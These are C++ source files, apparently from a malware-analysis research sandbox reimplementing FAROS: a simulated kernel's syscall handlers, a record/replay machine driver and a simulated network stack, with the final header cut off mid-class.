  // Individual syscall families (implemented in kernel.cpp).
  void sys_file(Process& p, Sys num);
  void sys_memory(Process& p, Sys num);
  void sys_process(Process& p, Sys num);
  void sys_net(Process& p, Sys num);
  void sys_misc(Process& p, Sys num);

  KernelConfig cfg_;
  vm::PhysMem mem_;
  vm::FrameAllocator frames_;
  vm::Interpreter interp_;
  vm::AddressSpace kernel_as_;
  Vfs vfs_;
  NetStack net_;
  osi::MonitorBus monitors_;
  Rng rng_;

  std::map<Pid, Process> procs_;
  Pid next_pid_ = 100;
  std::vector<Pid> sched_order_;
  size_t sched_cursor_ = 0;

  std::vector<osi::ModuleInfo> modules_;
  std::map<u32, std::deque<Bytes>> device_queues_;
  std::map<std::string, u32> dns_;
  std::map<u32, Bytes> atoms_;  // global atom table (atom-bombing channel)
  u32 next_atom_ = 0xc000;

  std::vector<std::string> console_;
  std::vector<std::string> trap_log_;
  u64 syscall_count_ = 0;
  bool booted_ = false;
};

}  // namespace faros::os
