// Syscall family handlers. ABI: number in r0, args in r1..r4, result in r0
// (kNtError on failure). Every byte moved between kernel objects and guest
// memory is published on the MonitorBus so the taint engine stays sound
// across the (native) kernel.
#include "common/strings.h"
#include "os/kernel.h"
#include "os/runtime.h"

namespace faros::os {

using vm::kPteExec;
using vm::kPteUser;
using vm::kPteWrite;

namespace {
constexpr u32 kMaxIoLen = 1u << 20;
constexpr u32 kMaxAllocLen = 16u << 20;

u32 prot_to_pte(u32 prot) {
  u32 flags = kPteUser;
  if (prot & kProtWrite) flags |= kPteWrite;
  if (prot & kProtExec) flags |= kPteExec;
  return flags;
}

Handle* get_handle(Process& p, u32 h, Handle::Kind kind) {
  auto it = p.handles.find(h);
  if (it == p.handles.end() || it->second.kind != kind) return nullptr;
  return &it->second;
}

}  // namespace

void Kernel::sys_file(Process& p, Sys num) {
  auto& r = p.cpu.regs;
  u32& r0 = r[vm::R0];
  const u32 a1 = r[vm::R1], a2 = r[vm::R2], a3 = r[vm::R3], a4 = r[vm::R4];
  r0 = kNtError;

  auto do_read = [&](Handle* h, u32 offset, VAddr buf, u32 len,
                     bool advance) {
    if (!h || len > kMaxIoLen) return;
    auto st = vfs_.stat(h->path);
    if (!st.ok()) return;
    Bytes tmp(len);
    auto n = vfs_.read_at(h->path, offset, tmp);
    if (!n.ok()) return;
    u32 got = n.value();
    if (got > 0) {
      auto c = copy_to_guest(p, buf, ByteSpan(tmp.data(), got));
      if (!c.ok()) return;
      osi::GuestXfer xfer{p.info(), &p.as, buf, got};
      monitors_.on_file_read(xfer, st.value().file_id, h->path,
                             st.value().version, offset);
    }
    if (advance) h->pos = offset + got;
    r0 = got;
  };

  auto do_write = [&](Handle* h, u32 offset, VAddr buf, u32 len,
                      bool advance) {
    if (!h || len > kMaxIoLen) return;
    auto data = copy_from_guest(p, buf, len);
    if (!data.ok()) return;
    auto w = vfs_.write_at(h->path, offset, data.value());
    if (!w.ok()) return;
    auto st = vfs_.stat(h->path);
    if (st.ok()) {
      osi::GuestXfer xfer{p.info(), &p.as, buf, len};
      monitors_.on_file_write(xfer, st.value().file_id, h->path,
                              st.value().version, offset);
    }
    if (advance) h->pos = offset + len;
    r0 = len;
  };

  switch (num) {
    case Sys::kNtCreateFile:
    case Sys::kNtOpenFile: {
      auto path = read_path_arg(p, a1);
      if (!path.ok()) return;
      if (!vfs_.exists(path.value())) {
        if (num == Sys::kNtOpenFile) return;
        vfs_.create(path.value());
      }
      (void)vfs_.touch(path.value());
      r0 = alloc_handle(p, Handle{Handle::Kind::kFile, path.value(), 0, 0});
      return;
    }
    case Sys::kNtReadFile: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      do_read(h, h ? h->pos : 0, a2, a3, /*advance=*/true);
      return;
    }
    case Sys::kNtWriteFile: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      do_write(h, h ? h->pos : 0, a2, a3, /*advance=*/true);
      return;
    }
    case Sys::kNtReadFileAt: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      do_read(h, a2, a3, a4, /*advance=*/false);
      return;
    }
    case Sys::kNtWriteFileAt: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      do_write(h, a2, a3, a4, /*advance=*/false);
      return;
    }
    case Sys::kNtCloseHandle: {
      auto it = p.handles.find(a1);
      if (it == p.handles.end()) return;
      if (it->second.kind == Handle::Kind::kSocket) {
        (void)net_.close(it->second.sock_id);
      }
      p.handles.erase(it);
      r0 = 0;
      return;
    }
    case Sys::kNtDeleteFile: {
      auto path = read_path_arg(p, a1);
      if (!path.ok()) return;
      if (vfs_.remove(path.value()).ok()) r0 = 0;
      return;
    }
    case Sys::kNtSeekFile: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      if (!h) return;
      h->pos = a2;
      r0 = a2;
      return;
    }
    case Sys::kNtQueryFileSize: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      if (!h) return;
      auto st = vfs_.stat(h->path);
      if (st.ok()) r0 = st.value().size;
      return;
    }
    case Sys::kNtRenameFile: {
      auto from = read_path_arg(p, a1);
      auto to = read_path_arg(p, a2);
      if (!from.ok() || !to.ok()) return;
      if (vfs_.rename(from.value(), to.value()).ok()) r0 = 0;
      return;
    }
    case Sys::kNtTruncateFile: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      if (!h) return;
      if (vfs_.truncate(h->path, a2).ok()) r0 = 0;
      return;
    }
    case Sys::kNtFlushFile: {
      if (get_handle(p, a1, Handle::Kind::kFile)) r0 = 0;
      return;
    }
    case Sys::kNtQueryFileVersion: {
      Handle* h = get_handle(p, a1, Handle::Kind::kFile);
      if (!h) return;
      auto st = vfs_.stat(h->path);
      if (st.ok()) r0 = st.value().version;
      return;
    }
    case Sys::kNtQueryFileExists: {
      auto path = read_path_arg(p, a1);
      if (path.ok()) r0 = vfs_.exists(path.value()) ? 1 : 0;
      return;
    }
    default: return;
  }
}

void Kernel::sys_memory(Process& p, Sys num) {
  auto& r = p.cpu.regs;
  u32& r0 = r[vm::R0];
  const u32 a1 = r[vm::R1], a2 = r[vm::R2], a3 = r[vm::R3], a4 = r[vm::R4];
  r0 = kNtError;

  auto target = [&](u32 pid) -> Process* {
    if (pid == 0 || pid == p.pid) return &p;
    Process* t = find(pid);
    return (t && t->alive()) ? t : nullptr;
  };

  switch (num) {
    case Sys::kNtAllocateVirtualMemory: {
      Process* t = target(a1);
      const u32 len = a2, prot = a3;
      if (!t || len == 0 || len > kMaxAllocLen) return;
      VAddr va = t->alloc_cursor;
      if (!t->as.map_alloc(va, len, prot_to_pte(prot)).ok()) return;
      u32 span = vm::page_ceil(len);
      t->alloc_cursor = va + span + vm::kPageSize;  // guard gap
      t->regions.push_back(Region{Region::Kind::kAlloc, va, span, prot, ""});
      r0 = va;
      return;
    }
    case Sys::kNtProtectVirtualMemory: {
      Process* t = target(a1);
      if (!t) return;
      if (!t->as.protect_range(a2, a3, prot_to_pte(a4)).ok()) return;
      if (Region* reg = t->region_containing(a2)) reg->prot = a4;
      r0 = 0;
      return;
    }
    case Sys::kNtFreeVirtualMemory: {
      Process* t = target(a1);
      if (!t) return;
      if (!t->as.unmap_range(a2, a3, /*free_frames=*/true).ok()) return;
      auto& regs_list = t->regions;
      regs_list.erase(std::remove_if(regs_list.begin(), regs_list.end(),
                                     [&](const Region& reg) {
                                       return reg.base == a2;
                                     }),
                      regs_list.end());
      r0 = 0;
      return;
    }
    case Sys::kNtReadVirtualMemory: {
      Process* t = target(a1);
      if (!t || t == &p || a4 > kMaxIoLen) return;
      auto data = copy_from_guest(*t, a2, a4);
      if (!data.ok()) return;
      if (!copy_to_guest(p, a3, data.value()).ok()) return;
      osi::GuestXfer src{t->info(), &t->as, a2, a4};
      osi::GuestXfer dst{p.info(), &p.as, a3, a4};
      monitors_.on_cross_process_write(src, dst);
      r0 = a4;
      return;
    }
    case Sys::kNtWriteVirtualMemory: {
      Process* t = target(a1);
      if (!t || t == &p || a4 > kMaxIoLen) return;
      auto data = copy_from_guest(p, a3, a4);
      if (!data.ok()) return;
      if (!copy_to_guest(*t, a2, data.value()).ok()) return;
      osi::GuestXfer src{p.info(), &p.as, a3, a4};
      osi::GuestXfer dst{t->info(), &t->as, a2, a4};
      monitors_.on_cross_process_write(src, dst);
      r0 = a4;
      return;
    }
    case Sys::kNtUnmapViewOfSection: {
      Process* t = target(a1);
      if (!t) return;
      Region* reg = t->region_containing(a2);
      if (!reg || reg->kind != Region::Kind::kImage) return;
      if (!t->as.unmap_range(reg->base, reg->len, /*free_frames=*/true)
               .ok()) {
        return;
      }
      VAddr base = reg->base;
      auto& regs_list = t->regions;
      regs_list.erase(std::remove_if(regs_list.begin(), regs_list.end(),
                                     [&](const Region& rr) {
                                       return rr.base == base;
                                     }),
                      regs_list.end());
      r0 = 0;
      return;
    }
    default: return;
  }
}

void Kernel::sys_process(Process& p, Sys num) {
  auto& r = p.cpu.regs;
  u32& r0 = r[vm::R0];
  const u32 a1 = r[vm::R1], a2 = r[vm::R2];
  r0 = kNtError;

  switch (num) {
    case Sys::kNtCreateProcess: {
      auto path = read_path_arg(p, a1);
      if (!path.ok()) return;
      auto pid = spawn(path.value(), (a2 & 1) != 0, p.pid);
      if (pid.ok()) r0 = pid.value();
      return;
    }
    case Sys::kNtSuspendProcess: {
      Process* t = find(a1);
      if (!t || !t->alive()) return;
      t->state = ProcState::kSuspended;
      r0 = 0;
      return;
    }
    case Sys::kNtResumeProcess: {
      Process* t = find(a1);
      if (!t || t->state != ProcState::kSuspended) return;
      t->state = t->wait.kind != PendingWait::Kind::kNone
                     ? ProcState::kBlocked
                     : ProcState::kReady;
      r0 = 0;
      return;
    }
    case Sys::kNtTerminateProcess: {
      Process* t = find(a1);
      if (!t || !t->alive()) return;
      terminate(*t, a2);
      r0 = 0;
      return;
    }
    case Sys::kNtSetEntryPoint: {
      Process* t = find(a1);
      if (!t || !t->alive()) return;
      t->cpu.set_pc(a2);
      r0 = 0;
      return;
    }
    case Sys::kNtGetCurrentPid: r0 = p.pid; return;
    case Sys::kNtWaitProcess: {
      Process* t = find(a1);
      if (!t) return;
      if (t->state == ProcState::kTerminated) {
        r0 = t->exit_code;
        return;
      }
      p.state = ProcState::kBlocked;
      p.wait = PendingWait{PendingWait::Kind::kProcExit, a1, 0, 0};
      return;
    }
    case Sys::kNtOpenProcessByName: {
      auto name = read_path_arg(p, a1);
      if (!name.ok()) return;
      Process* t = find_by_name(name.value());
      if (t) r0 = t->pid;
      return;
    }
    case Sys::kNtQueryProcessList: {
      // r1 = u32 array, r2 = capacity in entries -> count written.
      u32 cap = std::min<u32>(r[vm::R2], 256);
      ByteWriter w;
      u32 count = 0;
      for (const auto& info : process_list()) {
        const Process* t = find(info.pid);
        if (!t || !t->alive() || count >= cap) continue;
        w.put_u32(info.pid);
        ++count;
      }
      if (!copy_to_guest(p, a1, w.bytes()).ok()) return;
      r0 = count;
      return;
    }
    default: return;
  }
}

void Kernel::sys_net(Process& p, Sys num) {
  auto& r = p.cpu.regs;
  u32& r0 = r[vm::R0];
  const u32 a1 = r[vm::R1], a2 = r[vm::R2], a3 = r[vm::R3];
  r0 = kNtError;

  switch (num) {
    case Sys::kNtSocket: {
      SocketId sid = net_.create(p.pid);
      r0 = alloc_handle(p, Handle{Handle::Kind::kSocket, "", sid, 0});
      return;
    }
    case Sys::kNtConnect: {
      Handle* h = get_handle(p, a1, Handle::Kind::kSocket);
      if (!h) return;
      if (net_.connect(h->sock_id, a2, static_cast<u16>(a3)).ok()) r0 = 0;
      return;
    }
    case Sys::kNtBind: {
      Handle* h = get_handle(p, a1, Handle::Kind::kSocket);
      if (!h) return;
      if (net_.bind(h->sock_id, static_cast<u16>(a2)).ok()) r0 = 0;
      return;
    }
    case Sys::kNtSend: {
      Handle* h = get_handle(p, a1, Handle::Kind::kSocket);
      if (!h || a3 > kMaxIoLen) return;
      auto data = copy_from_guest(p, a2, a3);
      if (!data.ok()) return;
      auto pkt = net_.send(h->sock_id, data.value(), interp_.instr_count());
      if (!pkt.ok()) return;
      osi::GuestXfer xfer{p.info(), &p.as, a2, a3};
      osi::PacketMeta meta{pkt.value().segment_id, 0, pkt.value().loopback};
      monitors_.on_guest_send(xfer, pkt.value().flow, meta);
      r0 = a3;
      return;
    }
    case Sys::kNtRecv: {
      Handle* h = get_handle(p, a1, Handle::Kind::kSocket);
      if (!h || a3 > kMaxIoLen) return;
      auto avail = net_.rx_available(h->sock_id);
      if (!avail.ok()) return;
      if (avail.value() == 0) {
        p.state = ProcState::kBlocked;
        p.wait = PendingWait{PendingWait::Kind::kRecv, a1, a2, a3};
        return;
      }
      Bytes tmp(a3);
      FlowTuple flow;
      u64 seg_id = 0;
      u32 seg_off = 0;
      auto n = net_.read_rx(h->sock_id, tmp, &flow, &seg_id, &seg_off);
      if (!n.ok()) return;
      u32 got = n.value();
      if (got > 0) {
        if (!copy_to_guest(p, a2, ByteSpan(tmp.data(), got)).ok()) return;
        osi::GuestXfer xfer{p.info(), &p.as, a2, got};
        osi::PacketMeta meta{seg_id, seg_off,
                             flow.src_ip == net_.guest_ip()};
        monitors_.on_packet_to_guest(xfer, flow, meta);
      }
      r0 = got;
      return;
    }
    case Sys::kNtPollRecv: {
      Handle* h = get_handle(p, a1, Handle::Kind::kSocket);
      if (!h) return;
      auto avail = net_.rx_available(h->sock_id);
      if (avail.ok()) r0 = avail.value();
      return;
    }
    case Sys::kNtResolveHost: {
      auto host = read_path_arg(p, a1);
      if (!host.ok()) return;
      r0 = resolve_host(host.value());
      return;
    }
    default: return;
  }
}

void Kernel::sys_misc(Process& p, Sys num) {
  auto& r = p.cpu.regs;
  u32& r0 = r[vm::R0];
  const u32 a1 = r[vm::R1], a2 = r[vm::R2], a3 = r[vm::R3];
  r0 = kNtError;

  switch (num) {
    case Sys::kNtReadDevice: {
      if (a3 > kMaxIoLen) return;
      auto& q = device_queues_[a1];
      if (q.empty()) {
        p.state = ProcState::kBlocked;
        p.wait = PendingWait{PendingWait::Kind::kDevice, a1, a2, a3};
        return;
      }
      Bytes& front = q.front();
      u32 n = std::min<u32>(a3, static_cast<u32>(front.size()));
      if (n > 0) {
        if (!copy_to_guest(p, a2, ByteSpan(front.data(), n)).ok()) return;
        osi::GuestXfer xfer{p.info(), &p.as, a2, n};
        monitors_.on_device_read(xfer, a1);
      }
      if (n == front.size()) {
        q.pop_front();
      } else {
        front.erase(front.begin(), front.begin() + n);
      }
      r0 = n;
      return;
    }
    case Sys::kNtDebugPrint: {
      u32 len = std::min<u32>(a2, 1024);
      auto data = copy_from_guest(p, a1, len);
      if (!data.ok()) return;
      std::string text(data.value().begin(), data.value().end());
      p.debug_output.push_back(text);
      if (console_.size() < cfg_.max_debug_lines) {
        console_.push_back(p.name + ": " + text);
      }
      monitors_.on_debug_print(p.info(), text);
      r0 = 0;
      return;
    }
    case Sys::kNtGetTick:
      r0 = static_cast<u32>(interp_.instr_count() & 0xffffffffu);
      return;
    case Sys::kNtYield: r0 = 0; return;
    case Sys::kNtGetRandom: {
      u32 len = std::min<u32>(a2, 4096);
      Bytes data = rng_.bytes(len);
      if (!copy_to_guest(p, a1, data).ok()) return;
      r0 = len;
      return;
    }
    case Sys::kNtExit: terminate(p, a1); return;
    case Sys::kNtGetModuleDirectory: r0 = KernelLayout::kModuleDir; return;
    case Sys::kNtLoadLibrary: {
      auto name = read_path_arg(p, a1);
      if (!name.ok()) return;
      u32 hash = fnv1a32(name.value());
      for (const auto& m : modules_) {
        if (m.name_hash == hash) {
          r0 = m.base;
          return;
        }
      }
      return;
    }
    case Sys::kNtAddAtom: {
      if (a2 == 0 || a2 > 4096) return;
      auto data = copy_from_guest(p, a1, a2);
      if (!data.ok()) return;
      u32 atom = next_atom_++;
      atoms_[atom] = std::move(data).take();
      osi::GuestXfer xfer{p.info(), &p.as, a1, a2};
      monitors_.on_atom_write(xfer, atom);
      r0 = atom;
      return;
    }
    case Sys::kNtGetAtom: {
      auto it = atoms_.find(a1);
      if (it == atoms_.end() || a3 > kMaxIoLen) return;
      u32 n = std::min<u32>(a3, static_cast<u32>(it->second.size()));
      if (n > 0) {
        if (!copy_to_guest(p, a2, ByteSpan(it->second.data(), n)).ok()) {
          return;
        }
        osi::GuestXfer xfer{p.info(), &p.as, a2, n};
        monitors_.on_atom_read(xfer, a1);
      }
      r0 = n;
      return;
    }
    default: return;
  }
}

bool Kernel::try_complete_wait(Process& p) {
  switch (p.wait.kind) {
    case PendingWait::Kind::kNone: return false;
    case PendingWait::Kind::kRecv: {
      Handle* h = get_handle(p, p.wait.id, Handle::Kind::kSocket);
      if (!h) {
        p.cpu.regs[vm::R0] = kNtError;
        break;
      }
      auto avail = net_.rx_available(h->sock_id);
      if (!avail.ok()) {
        p.cpu.regs[vm::R0] = kNtError;
        break;
      }
      if (avail.value() == 0) return false;
      Bytes tmp(p.wait.len);
      FlowTuple flow;
      u64 seg_id = 0;
      u32 seg_off = 0;
      auto n = net_.read_rx(h->sock_id, tmp, &flow, &seg_id, &seg_off);
      u32 got = n.ok() ? n.value() : 0;
      if (got > 0) {
        if (!copy_to_guest(p, p.wait.buf, ByteSpan(tmp.data(), got)).ok()) {
          p.cpu.regs[vm::R0] = kNtError;
          break;
        }
        osi::GuestXfer xfer{p.info(), &p.as, p.wait.buf, got};
        osi::PacketMeta meta{seg_id, seg_off,
                             flow.src_ip == net_.guest_ip()};
        monitors_.on_packet_to_guest(xfer, flow, meta);
      }
      p.cpu.regs[vm::R0] = got;
      break;
    }
    case PendingWait::Kind::kDevice: {
      auto it = device_queues_.find(p.wait.id);
      if (it == device_queues_.end() || it->second.empty()) return false;
      Bytes& front = it->second.front();
      u32 n = std::min<u32>(p.wait.len, static_cast<u32>(front.size()));
      if (n > 0) {
        if (!copy_to_guest(p, p.wait.buf, ByteSpan(front.data(), n)).ok()) {
          p.cpu.regs[vm::R0] = kNtError;
          break;
        }
        osi::GuestXfer xfer{p.info(), &p.as, p.wait.buf, n};
        monitors_.on_device_read(xfer, p.wait.id);
      }
      if (n == front.size()) {
        it->second.pop_front();
      } else {
        front.erase(front.begin(), front.begin() + n);
      }
      p.cpu.regs[vm::R0] = n;
      break;
    }
    case PendingWait::Kind::kProcExit: {
      Process* t = find(p.wait.id);
      if (!t) {
        p.cpu.regs[vm::R0] = kNtError;
        break;
      }
      if (t->state != ProcState::kTerminated) return false;
      p.cpu.regs[vm::R0] = t->exit_code;
      break;
    }
  }
  p.wait = PendingWait{};
  p.state = ProcState::kReady;
  return true;
}

}  // namespace faros::os
