#include "os/machine.h"

namespace faros::os {

Machine::Machine(const MachineConfig& cfg) : cfg_(cfg), kernel_(cfg.kernel) {}

void Machine::load_replay(const vm::ReplayLog& log) {
  replay_ = log;
  replay_pos_ = 0;
  replay_mode_ = true;
  source_ = nullptr;
}

bool Machine::inject_packet(const FlowTuple& flow, ByteSpan data) {
  bool accepted = kernel_.deliver_packet(flow, data);
  if (accepted && !replay_mode_) {
    vm::ReplayEvent ev;
    ev.instr_index = kernel_.interp().instr_count();
    ev.kind = vm::EventKind::kPacketIn;
    ev.channel = flow.dst_port;
    ev.flow = flow;
    ev.payload = Bytes(data.begin(), data.end());
    recording_.append(std::move(ev));
  }
  return accepted;
}

void Machine::inject_device(u32 device_id, ByteSpan data) {
  kernel_.deliver_device(device_id, data);
  if (!replay_mode_) {
    vm::ReplayEvent ev;
    ev.instr_index = kernel_.interp().instr_count();
    ev.kind = vm::EventKind::kDeviceInput;
    ev.channel = device_id;
    ev.payload = Bytes(data.begin(), data.end());
    recording_.append(std::move(ev));
  }
}

void Machine::pump_events() {
  if (replay_mode_) {
    const auto& events = replay_.events();
    while (replay_pos_ < events.size() &&
           events[replay_pos_].instr_index <=
               kernel_.interp().instr_count()) {
      const vm::ReplayEvent& ev = events[replay_pos_++];
      switch (ev.kind) {
        case vm::EventKind::kPacketIn:
          (void)kernel_.deliver_packet(ev.flow, ev.payload);
          break;
        case vm::EventKind::kDeviceInput:
          kernel_.deliver_device(ev.channel, ev.payload);
          break;
      }
    }
  } else if (source_) {
    source_->poll(*this);
  }
}

RunStats Machine::run(u64 max_instructions, RunGovernor* gov) {
  RunStats stats;
  while (stats.instructions < max_instructions) {
    pump_events();
    Process* p = kernel_.pick_next();
    if (!p) {
      // Nothing runnable. In replay, fast-forward to the next logged event
      // (the recorded run was waiting on exactly this input).
      if (replay_mode_ && replay_pos_ < replay_.size()) {
        const vm::ReplayEvent& ev = replay_.events()[replay_pos_++];
        switch (ev.kind) {
          case vm::EventKind::kPacketIn:
            (void)kernel_.deliver_packet(ev.flow, ev.payload);
            break;
          case vm::EventKind::kDeviceInput:
            kernel_.deliver_device(ev.channel, ev.payload);
            break;
        }
        continue;
      }
      stats.all_exited = kernel_.live_count() == 0;
      stats.deadlocked = !stats.all_exited;
      return stats;
    }
    // Poll the governor only when there is genuinely more work to run: a
    // workload that has already completed (or deadlocked) at the instant a
    // deadline fires must report its true terminal state, not an abort.
    // Polling at the loop top made kOk-vs-kTimeout depend on timing.
    if (gov && gov->should_stop()) {
      stats.aborted = true;
      return stats;
    }
    u64 quantum = std::min<u64>(cfg_.quantum,
                                max_instructions - stats.instructions);
    stats.instructions += kernel_.run_process(*p, quantum);
    ++stats.scheduling_rounds;
    if (kernel_.live_count() == 0) {
      stats.all_exited = true;
      return stats;
    }
  }
  return stats;
}

}  // namespace faros::os
