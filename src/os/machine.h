// Machine: the whole sandbox VM — kernel + scheduler driver + record/replay.
//
// Usage mirrors the paper's Section V-C workflow:
//   1. RECORD: boot a machine, attach an EventSource (the scripted attacker
//      C2 / device input), run the workload. All nondeterministic inputs
//      are captured in a ReplayLog.
//   2. REPLAY: boot an identical machine, load the log, attach the FAROS
//      plugin (vm::ExecHooks + osi::GuestMonitor), run. Execution is
//      bit-identical, and the expensive taint analysis happens here.
#pragma once

#include <memory>

#include "os/kernel.h"
#include "vm/replay.h"

namespace faros::os {

class Machine;

/// Live input source for record mode (scripted remote peers, devices).
/// Polled once per scheduling round; inject inputs via the Machine API.
class EventSource {
 public:
  virtual ~EventSource() = default;
  virtual void poll(Machine& m) = 0;
};

struct MachineConfig {
  KernelConfig kernel;
  u32 quantum = 256;  // instructions per scheduling slice
};

struct RunStats {
  u64 instructions = 0;
  u64 scheduling_rounds = 0;
  bool all_exited = false;   // every process terminated
  bool deadlocked = false;   // live processes but nothing runnable
  bool aborted = false;      // a RunGovernor stopped the run early
};

/// External run supervisor (the farm's per-job watchdog). Polled between
/// scheduling rounds; returning true aborts the run with stats.aborted set.
/// The governor never alters the execution path up to the abort point, so a
/// run that is not aborted retires the exact same instruction sequence as a
/// run without a governor.
class RunGovernor {
 public:
  virtual ~RunGovernor() = default;
  virtual bool should_stop() = 0;
};

class Machine {
 public:
  explicit Machine(const MachineConfig& cfg = {});

  Result<void> boot() { return kernel_.boot(); }

  Kernel& kernel() { return kernel_; }
  const MachineConfig& config() const { return cfg_; }

  /// Attaches an instruction-level plugin (the FAROS taint engine).
  void attach_cpu_plugin(vm::ExecHooks* hooks) {
    kernel_.interp().set_hooks(hooks);
  }
  /// Attaches a semantic-event monitor (FAROS, CuckooBox baseline, probes).
  void add_monitor(osi::GuestMonitor* m) { kernel_.monitors().attach(m); }

  /// Record mode: attach the live input source.
  void set_event_source(EventSource* src) { source_ = src; }

  /// Replay mode: feed a previously recorded log. Clears any EventSource.
  void load_replay(const vm::ReplayLog& log);

  /// Runs until every process exits, nothing can make progress,
  /// `max_instructions` retire, or `gov` (optional) requests a stop.
  RunStats run(u64 max_instructions, RunGovernor* gov = nullptr);

  // --- injection API (EventSources call these; record mode logs them) ---
  /// Returns false if no guest socket accepted the packet (it is dropped
  /// and NOT recorded).
  bool inject_packet(const FlowTuple& flow, ByteSpan data);
  void inject_device(u32 device_id, ByteSpan data);

  /// Everything recorded so far (valid in record mode).
  const vm::ReplayLog& recording() const { return recording_; }

 private:
  void pump_events();

  MachineConfig cfg_;
  Kernel kernel_;
  EventSource* source_ = nullptr;

  vm::ReplayLog recording_;
  vm::ReplayLog replay_;
  size_t replay_pos_ = 0;
  bool replay_mode_ = false;
};

}  // namespace faros::os
