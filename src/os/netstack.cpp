#include "os/netstack.h"

#include <algorithm>

namespace faros::os {

NetStack::Socket* NetStack::find(SocketId sid) {
  auto it = sockets_.find(sid);
  return it == sockets_.end() ? nullptr : &it->second;
}

const NetStack::Socket* NetStack::find(SocketId sid) const {
  auto it = sockets_.find(sid);
  return it == sockets_.end() ? nullptr : &it->second;
}

SocketId NetStack::create(u32 owner_pid) {
  SocketId id = next_id_++;
  sockets_[id] = Socket{owner_pid, State::kOpen, 0, 0, 0, {}};
  return id;
}

Result<void> NetStack::bind(SocketId sid, u16 port) {
  Socket* s = find(sid);
  if (!s) return Err<void>("net: bad socket");
  for (const auto& [id, other] : sockets_) {
    if (id != sid && other.local_port == port && port != 0) {
      return Err<void>("net: port in use");
    }
  }
  s->local_port = port;
  s->state = State::kBound;
  return Ok();
}

Result<FlowTuple> NetStack::connect(SocketId sid, u32 ip, u16 port) {
  Socket* s = find(sid);
  if (!s) return Err<FlowTuple>("net: bad socket");
  if (s->local_port == 0) s->local_port = next_ephemeral_++;
  s->remote_ip = ip;
  s->remote_port = port;
  s->state = State::kConnected;
  return FlowTuple{guest_ip_, s->local_port, ip, port};
}

Result<void> NetStack::close(SocketId sid) {
  if (sockets_.erase(sid) == 0) return Err<void>("net: bad socket");
  return Ok();
}

Result<OutboundPacket> NetStack::send(SocketId sid, ByteSpan data,
                                      u64 instr_index) {
  Socket* s = find(sid);
  if (!s) return Err<OutboundPacket>("net: bad socket");
  if (s->state != State::kConnected) {
    return Err<OutboundPacket>("net: not connected");
  }
  FlowTuple flow{guest_ip_, s->local_port, s->remote_ip, s->remote_port};
  OutboundPacket pkt{s->owner_pid, flow, Bytes(data.begin(), data.end()),
                     instr_index, next_segment_++, /*loopback=*/false};
  if (s->remote_ip == guest_ip_) {
    // Loopback: deliver internally under the same segment id so the taint
    // engine's packet shadow carries provenance across the transfer.
    for (auto& [id, dst] : sockets_) {
      bool connected_match = dst.state == State::kConnected &&
                             dst.local_port == flow.dst_port &&
                             dst.remote_ip == flow.src_ip &&
                             dst.remote_port == flow.src_port;
      bool bound_match =
          dst.state == State::kBound && dst.local_port == flow.dst_port;
      if (connected_match || bound_match) {
        dst.rx.push_back(Segment{flow, pkt.data, pkt.segment_id, 0});
        pkt.loopback = true;
        break;
      }
    }
  }
  outbound_.push_back(pkt);
  return pkt;
}

Result<u32> NetStack::rx_available(SocketId sid) const {
  const Socket* s = find(sid);
  if (!s) return Err<u32>("net: bad socket");
  u32 total = 0;
  for (const auto& seg : s->rx) total += static_cast<u32>(seg.data.size());
  return total;
}

Result<u32> NetStack::read_rx(SocketId sid, MutByteSpan out,
                              FlowTuple* flow_out, u64* segment_id,
                              u32* segment_off) {
  Socket* s = find(sid);
  if (!s) return Err<u32>("net: bad socket");
  if (s->rx.empty()) return 0u;
  Segment& seg = s->rx.front();
  u32 n = std::min<u32>(static_cast<u32>(out.size()),
                        static_cast<u32>(seg.data.size()));
  std::copy_n(seg.data.begin(), n, out.begin());
  if (flow_out) *flow_out = seg.flow;
  if (segment_id) *segment_id = seg.segment_id;
  if (segment_off) *segment_off = seg.consumed;
  if (n == seg.data.size()) {
    s->rx.pop_front();
  } else {
    seg.data.erase(seg.data.begin(), seg.data.begin() + n);
    seg.consumed += n;
  }
  return n;
}

bool NetStack::deliver(const FlowTuple& flow, ByteSpan data) {
  // Prefer an exactly-matching connected socket.
  for (auto& [id, s] : sockets_) {
    if (s.state == State::kConnected && s.local_port == flow.dst_port &&
        s.remote_ip == flow.src_ip && s.remote_port == flow.src_port) {
      s.rx.push_back(
          Segment{flow, Bytes(data.begin(), data.end()), next_segment_++, 0});
      return true;
    }
  }
  // Fall back to a listening (bound, unconnected) socket on the port.
  // Connected sockets only accept their own flow.
  for (auto& [id, s] : sockets_) {
    if (s.state == State::kBound && s.local_port == flow.dst_port) {
      s.rx.push_back(
          Segment{flow, Bytes(data.begin(), data.end()), next_segment_++, 0});
      return true;
    }
  }
  return false;
}

std::optional<u32> NetStack::socket_owner(SocketId sid) const {
  const Socket* s = find(sid);
  if (!s) return std::nullopt;
  return s->owner_pid;
}

void NetStack::close_all_for(u32 owner_pid) {
  for (auto it = sockets_.begin(); it != sockets_.end();) {
    if (it->second.owner_pid == owner_pid) {
      it = sockets_.erase(it);
    } else {
      ++it;
    }
  }
}

}  // namespace faros::os
