// Simulated guest network stack. Sockets are datagram-ish byte streams:
// inbound packets are queued per socket as segments (each remembering its
// flow 4-tuple, which becomes the FAROS netflow tag when the kernel copies
// the bytes into a guest buffer); outbound sends are appended to a trace
// that scripted remote peers (the C2 simulator) and the CuckooBox baseline
// observe.
#pragma once

#include <deque>
#include <map>
#include <optional>
#include <vector>

#include "common/flow.h"
#include "common/result.h"
#include "common/types.h"

namespace faros::os {

using SocketId = u32;

struct Segment {
  FlowTuple flow;  // as seen at the guest: src = remote, dst = guest
  Bytes data;
  /// Stable id; the taint engine keys per-byte packet shadows on it so
  /// provenance survives guest-to-guest (loopback) transfers.
  u64 segment_id = 0;
  /// Bytes already consumed from the front (for partial reads, so shadow
  /// offsets stay aligned with the original payload).
  u32 consumed = 0;
};

struct OutboundPacket {
  u32 owner_pid = 0;
  FlowTuple flow;  // src = guest, dst = remote
  Bytes data;
  u64 instr_index = 0;  // when it was sent (global instruction counter)
  u64 segment_id = 0;
  bool loopback = false;  // delivered to another guest socket
};

class NetStack {
 public:
  explicit NetStack(u32 guest_ip) : guest_ip_(guest_ip) {}

  u32 guest_ip() const { return guest_ip_; }

  SocketId create(u32 owner_pid);
